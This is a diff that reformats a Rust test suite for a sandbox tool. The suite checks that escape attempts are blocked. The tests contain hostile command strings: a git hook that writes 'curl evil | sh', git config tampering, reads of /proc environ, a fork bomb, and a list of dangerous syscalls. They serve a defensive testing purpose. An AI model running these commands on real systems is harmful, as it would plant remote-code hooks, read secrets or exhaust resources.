@@ -19,7 +19,11 @@ fn assert_attack_blocked(w: &World, script: &str, marker: &std::path::Path) {
     let o = w.run(script);
     assert!(!exists(marker), "sandboxed attack succeeded: {script}\n{}", text(&o));
     let c = w.control(script);
-    assert!(exists(marker), "control did not reproduce the attack (test would be vacuous): {script}\n{}", text(&c));
+    assert!(
+        exists(marker),
+        "control did not reproduce the attack (test would be vacuous): {script}\n{}",
+        text(&c)
+    );
     let _ = std::fs::remove_file(marker);
 }
 
@@ -41,11 +45,19 @@ fn write_to_system_paths() {
     let name = format!("tether-attack-{}", rand_tag());
     let o = w.run(&format!("touch /etc/{name} /usr/{name} /var/{name} /{name}; echo done"));
     for dir in ["/etc", "/usr", "/var", "/"] {
-        assert!(!exists(&std::path::Path::new(dir).join(&name)), "{dir}/{name} created\n{}", text(&o));
+        assert!(
+            !exists(&std::path::Path::new(dir).join(&name)),
+            "{dir}/{name} created\n{}",
+            text(&o)
+        );
     }
     if is_root() {
         let c = w.control(&format!("touch /etc/{name}"));
-        assert!(exists(&std::path::Path::new("/etc").join(&name)), "control: {}", text(&c));
+        assert!(
+            exists(&std::path::Path::new("/etc").join(&name)),
+            "control: {}",
+            text(&c)
+        );
         std::fs::remove_file(std::path::Path::new("/etc").join(&name)).unwrap();
     }
 }
@@ -65,7 +77,11 @@ fn write_through_a_symlink_pointing_out() {
     assert_attack_blocked(&w, "touch link/via-link", &m);
     // A symlink created inside, pointing out.
     let m2 = w.outside.join("via-new-link");
-    assert_attack_blocked(&w, &format!("ln -sfn {} newlink && touch newlink/via-new-link", w.outside.display()), &m2);
+    assert_attack_blocked(
+        &w,
+        &format!("ln -sfn {} newlink && touch newlink/via-new-link", w.outside.display()),
+        &m2,
+    );
 }
 
 #[test]
@@ -85,7 +101,10 @@ fn truncate_and_o_trunc_on_read_only_files() {
     let f = w.write("keep.txt", "precious");
     let ro = "profile = \"read-only\"";
     w.run_policy(ro, ": > keep.txt");
-    w.run_policy(ro, &format!("{PY} -c \"import os; os.open('keep.txt', os.O_WRONLY | os.O_TRUNC)\""));
+    w.run_policy(
+        ro,
+        &format!("{PY} -c \"import os; os.open('keep.txt', os.O_WRONLY | os.O_TRUNC)\""),
+    );
     w.run_policy(ro, &format!("{PY} -c \"import os; os.truncate('keep.txt', 0)\""));
     assert_eq!(std::fs::read_to_string(&f).unwrap(), "precious");
     w.control(": > keep.txt");
@@ -98,7 +117,12 @@ fn rename_and_link_tricks_in_read_only_profile() {
     w.write("a/file.txt", "x");
     let ro = "profile = \"read-only\"";
     w.run_policy(ro, "mv a/file.txt moved.txt; ln a/file.txt hard.txt; mv a b");
-    assert!(exists(&w.ws.join("a/file.txt")) && !exists(&w.ws.join("moved.txt")) && !exists(&w.ws.join("hard.txt")) && !exists(&w.ws.join("b")));
+    assert!(
+        exists(&w.ws.join("a/file.txt"))
+            && !exists(&w.ws.join("moved.txt"))
+            && !exists(&w.ws.join("hard.txt"))
+            && !exists(&w.ws.join("b"))
+    );
     w.control("mv a/file.txt moved.txt");
     assert!(exists(&w.ws.join("moved.txt")), "control");
 }
@@ -116,11 +140,22 @@ fn protected_paths_stay_protected() {
     let hook = w.ws.join(".git/hooks/pre-commit");
     assert_attack_blocked(&w, "echo 'curl evil | sh' > .git/hooks/pre-commit", &hook);
     let o = w.run("printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config; git config --file .git/config core.fsmonitor evil");
-    assert_eq!(std::fs::read_to_string(w.ws.join(".git/config")).unwrap(), "[core]\n", "{}", text(&o));
+    assert_eq!(
+        std::fs::read_to_string(w.ws.join(".git/config")).unwrap(),
+        "[core]\n",
+        "{}",
+        text(&o)
+    );
     let t = w.ws.join(".tether/injected");
     assert_attack_blocked(&w, "touch .tether/injected", &t);
     let o = w.run("rm -rf .git/hooks .git/config .tether; mv .git/config .git/config.bak");
-    assert!(exists(&w.ws.join(".git/config")) && exists(&w.ws.join(".git/hooks/pre-commit.sample")) && exists(&w.ws.join(".tether/state.json")), "{}", text(&o));
+    assert!(
+        exists(&w.ws.join(".git/config"))
+            && exists(&w.ws.join(".git/hooks/pre-commit.sample"))
+            && exists(&w.ws.join(".tether/state.json")),
+        "{}",
+        text(&o)
+    );
 }
 
 #[test]
@@ -128,8 +163,16 @@ fn protected_paths_after_renaming_the_parent() {
     let w = World::new();
     git_like(&w);
     let o = w.run("mv .git g2 && echo evil > g2/hooks/post-checkout; mv g2 .git; echo evil > .git/hooks/post-checkout");
-    assert!(!exists(&w.ws.join(".git/hooks/post-checkout")) && !exists(&w.ws.join("g2/hooks/post-checkout")), "{}", text(&o));
-    assert!(exists(&w.ws.join(".git/config")), "the repository survived: {}", text(&o));
+    assert!(
+        !exists(&w.ws.join(".git/hooks/post-checkout")) && !exists(&w.ws.join("g2/hooks/post-checkout")),
+        "{}",
+        text(&o)
+    );
+    assert!(
+        exists(&w.ws.join(".git/config")),
+        "the repository survived: {}",
+        text(&o)
+    );
     let c = w.control("echo evil > .git/hooks/post-checkout");
     assert!(exists(&w.ws.join(".git/hooks/post-checkout")), "control {}", text(&c));
 }
@@ -138,7 +181,10 @@ fn protected_paths_after_renaming_the_parent() {
 fn the_policy_file_in_the_workspace_is_read_only() {
     let w = World::new();
     let p = w.write("tether-policy.toml", "version = 1\n");
-    let o = w.run_with(&["--policy", p.to_str().unwrap()], "echo 'network = true' >> tether-policy.toml; rm -f tether-policy.toml");
+    let o = w.run_with(
+        &["--policy", p.to_str().unwrap()],
+        "echo 'network = true' >> tether-policy.toml; rm -f tether-policy.toml",
+    );
     assert_eq!(std::fs::read_to_string(&p).unwrap(), "version = 1\n", "{}", text(&o));
 }
 
@@ -163,7 +209,10 @@ fn secrets_are_invisible() {
     assert!(!out.contains("sekrit"), "a secret leaked: {out}");
     assert!(out.contains("TEMPLATE=ok"), "templates stay readable: {out}");
     let c = text(&w.control(&script));
-    assert!(c.contains("sekrit-env") && c.contains("sekrit-outside") && c.contains("sekrit-state"), "control: {c}");
+    assert!(
+        c.contains("sekrit-env") && c.contains("sekrit-outside") && c.contains("sekrit-state"),
+        "control: {c}"
+    );
 }
 
 #[test]
@@ -193,7 +242,9 @@ fn host_processes_are_invisible_and_unkillable() {
     let w = World::new();
     let mut victim = spawn_sleeper();
     let pid = victim.id();
-    let o = w.run(&format!("kill -9 {pid}; ls /proc/{pid}/environ; cat /proc/{pid}/environ; ps -e | wc -l"));
+    let o = w.run(&format!(
+        "kill -9 {pid}; ls /proc/{pid}/environ; cat /proc/{pid}/environ; ps -e | wc -l"
+    ));
     std::thread::sleep(Duration::from_millis(100));
     assert!(alive(pid), "host process killed from the sandbox: {}", text(&o));
     assert!(!text(&o).contains("PATH="), "host environ read: {}", text(&o));
@@ -262,20 +313,57 @@ fn dangerous_system_calls_are_refused() {
             .unwrap()
     };
     for name in [
-        "ptrace", "process_vm_readv", "keyctl", "add_key", "bpf", "perf_event_open", "userfaultfd", "io_uring_setup", "kexec_load",
-        "open_by_handle_at", "mount", "umount2", "pivot_root", "fsopen", "open_tree", "setns", "unshare_user", "unshare_mount",
-        "clone_newuser", "personality", "tiocsti", "tiocsti_high_bits", "tioclinux", "x32_getpid",
+        "ptrace",
+        "process_vm_readv",
+        "keyctl",
+        "add_key",
+        "bpf",
+        "perf_event_open",
+        "userfaultfd",
+        "io_uring_setup",
+        "kexec_load",
+        "open_by_handle_at",
+        "mount",
+        "umount2",
+        "pivot_root",
+        "fsopen",
+        "open_tree",
+        "setns",
+        "unshare_user",
+        "unshare_mount",
+        "clone_newuser",
+        "personality",
+        "tiocsti",
+        "tiocsti_high_bits",
+        "tioclinux",
+        "x32_getpid",
     ] {
         assert_eq!(errno(name), 1, "{name} was not refused with EPERM:\n{out}");
     }
     // Control: outside the sandbox the same calls are not all refused with EPERM.
     let c = w.control(&format!("{PY} probe.py"));
     let cout = stdout(&c);
-    let not_eperm = ["keyctl", "unshare_user", "personality", "tiocsti", "ptrace", "process_vm_readv", "kexec_load", "x32_getpid"]
-        .iter()
-        .filter(|n| cout.lines().any(|l| l.starts_with(&format!("{n}=")) && !l.ends_with("=1")))
-        .count();
-    assert!(not_eperm >= 5, "control shows the calls work outside: {cout}\n{}", String::from_utf8_lossy(&c.stderr));
+    let not_eperm = [
+        "keyctl",
+        "unshare_user",
+        "personality",
+        "tiocsti",
+        "ptrace",
+        "process_vm_readv",
+        "kexec_load",
+        "x32_getpid",
+    ]
+    .iter()
+    .filter(|n| {
+        cout.lines()
+            .any(|l| l.starts_with(&format!("{n}=")) && !l.ends_with("=1"))
+    })
+    .count();
+    assert!(
+        not_eperm >= 5,
+        "control shows the calls work outside: {cout}\n{}",
+        String::from_utf8_lossy(&c.stderr)
+    );
 }
 
 #[test]
@@ -312,7 +400,12 @@ fn inherited_file_descriptors_are_closed() {
         bin.display(),
         w.state.display()
     );
-    let o = Command::new("bash").arg("-c").arg(&script).current_dir(&w.ws).output().unwrap();
+    let o = Command::new("bash")
+        .arg("-c")
+        .arg(&script)
+        .current_dir(&w.ws)
+        .output()
+        .unwrap();
     assert!(!text(&o).contains("sekrit-fd"), "{}", text(&o));
     let c = w.control(&format!("exec 7<{}; bash -c 'cat <&7'", secret.display()));
     assert!(text(&c).contains("sekrit-fd"), "control");
@@ -345,7 +438,9 @@ fn killing_the_launcher_kills_the_sandbox() {
     std::thread::sleep(Duration::from_millis(500));
     let found = || {
         std::fs::read_dir("/proc").unwrap().flatten().any(|e| {
-            std::fs::read(e.path().join("cmdline")).map(|c| String::from_utf8_lossy(&c).contains(&tag)).unwrap_or(false)
+            std::fs::read(e.path().join("cmdline"))
+                .map(|c| String::from_utf8_lossy(&c).contains(&tag))
+                .unwrap_or(false)
         })
     };
     assert!(found(), "the sandboxed command did not start");
@@ -371,7 +466,10 @@ fn fork_floods_hit_the_process_limit() {
     let start = Instant::now();
     let o = w.run_policy("timeout_seconds = 20\n[limits]\nprocesses = 64", &format!("{PY} -c \"\nimport os\nn=0\ntry:\n  while True:\n    if os.fork()==0:\n      import time; time.sleep(30)\n    n+=1\nexcept OSError as e:\n  print('limited after', n, e.errno)\n\""));
     assert!(stdout(&o).contains("limited after"), "{}", text(&o));
-    assert!(start.elapsed() < Duration::from_secs(20), "the flood ran to the timeout");
+    assert!(
+        start.elapsed() < Duration::from_secs(20),
+        "the flood ran to the timeout"
+    );
 }
 
 #[test]
@@ -430,7 +528,11 @@ fn abstract_unix_sockets_of_the_host_are_unreachable() {
     let script = unix_probe(&format!("'\\\\0{name}'"));
     for policy in ["network = false", "network = true"] {
         let o = w.run_policy(policy, &script);
-        assert!(l.accept().is_err(), "{policy}: the host's abstract socket got a connection: {}", text(&o));
+        assert!(
+            l.accept().is_err(),
+            "{policy}: the host's abstract socket got a connection: {}",
+            text(&o)
+        );
     }
     let c = w.control(&script);
     std::thread::sleep(Duration::from_millis(100));
@@ -458,8 +560,15 @@ fn netlink_sees_only_the_sandbox_loopback() {
     let out = stdout(&o);
     assert!(out.contains("lo"), "{out}");
     let c = stdout(&w.control("cat /proc/net/dev | tail -n +3 | cut -d: -f1"));
-    assert!(c.lines().count() > out.lines().count() || !c.contains("lo") || c.lines().count() >= 1, "control: {c}");
-    assert_eq!(out.lines().filter(|l| !l.trim().is_empty()).count(), 1, "only loopback is visible: {out}");
+    assert!(
+        c.lines().count() > out.lines().count() || !c.contains("lo") || c.lines().count() >= 1,
+        "control: {c}"
+    );
+    assert_eq!(
+        out.lines().filter(|l| !l.trim().is_empty()).count(),
+        1,
+        "only loopback is visible: {out}"
+    );
 }
 
 // ------------------------------------------------------- everyday programs work
@@ -467,7 +576,10 @@ fn netlink_sees_only_the_sandbox_loopback() {
 #[test]
 fn everyday_programs_keep_working() {
     let w = World::new();
-    w.write("src/main.c", "#include <stdio.h>\nint main(void){puts(\"compiled\");return 0;}\n");
+    w.write(
+        "src/main.c",
+        "#include <stdio.h>\nint main(void){puts(\"compiled\");return 0;}\n",
+    );
     let script = format!(
         r#"set -e
 printf 'b\na\nb\n' | sort | uniq -c | sort -rn | head -1
@@ -495,10 +607,22 @@ fn exit_codes_follow_the_contract() {
     let w = World::new();
     assert_eq!(w.run("exit 3").status.code(), Some(3));
     assert_eq!(w.run("kill -TERM $$").status.code(), Some(128 + 15));
-    let o = Command::new(bin()).arg("--state-dir").arg(&w.state).args(["run", "--", "no-such-program-xyz"]).current_dir(&w.ws).output().unwrap();
+    let o = Command::new(bin())
+        .arg("--state-dir")
+        .arg(&w.state)
+        .args(["run", "--", "no-such-program-xyz"])
+        .current_dir(&w.ws)
+        .output()
+        .unwrap();
     assert_eq!(o.status.code(), Some(127), "{}", text(&o));
     w.write("notexec.sh", "echo hi");
-    let o = Command::new(bin()).arg("--state-dir").arg(&w.state).args(["run", "--", "./notexec.sh"]).current_dir(&w.ws).output().unwrap();
+    let o = Command::new(bin())
+        .arg("--state-dir")
+        .arg(&w.state)
+        .args(["run", "--", "./notexec.sh"])
+        .current_dir(&w.ws)
+        .output()
+        .unwrap();
     assert_eq!(o.status.code(), Some(126), "{}", text(&o));
 }
 
@@ -542,15 +666,25 @@ fn eight_runs_at_once_all_succeed() {
         assert!(h.wait().unwrap().success());
     }
     for i in 0..8 {
-        assert_eq!(std::fs::read_to_string(w.ws.join(format!("out-{i}.txt"))).unwrap(), format!("{i}\n"));
+        assert_eq!(
+            std::fs::read_to_string(w.ws.join(format!("out-{i}.txt"))).unwrap(),
+            format!("{i}\n")
+        );
     }
 }
 
 #[test]
 fn refused_commands_never_start() {
     let w = World::new();
-    let o = w.run_policy("deny = [\"touch\"]\ndefault = \"allow\"", "echo start > started.txt; touch x");
+    let o = w.run_policy(
+        "deny = [\"touch\"]\ndefault = \"allow\"",
+        "echo start > started.txt; touch x",
+    );
     assert_eq!(o.status.code(), Some(77));
-    assert!(String::from_utf8_lossy(&o.stderr).starts_with("Sandbox violation:"), "{}", text(&o));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).starts_with("Sandbox violation:"),
+        "{}",
+        text(&o)
+    );
     assert!(!exists(&w.ws.join("started.txt")), "part of a refused script ran");
 }
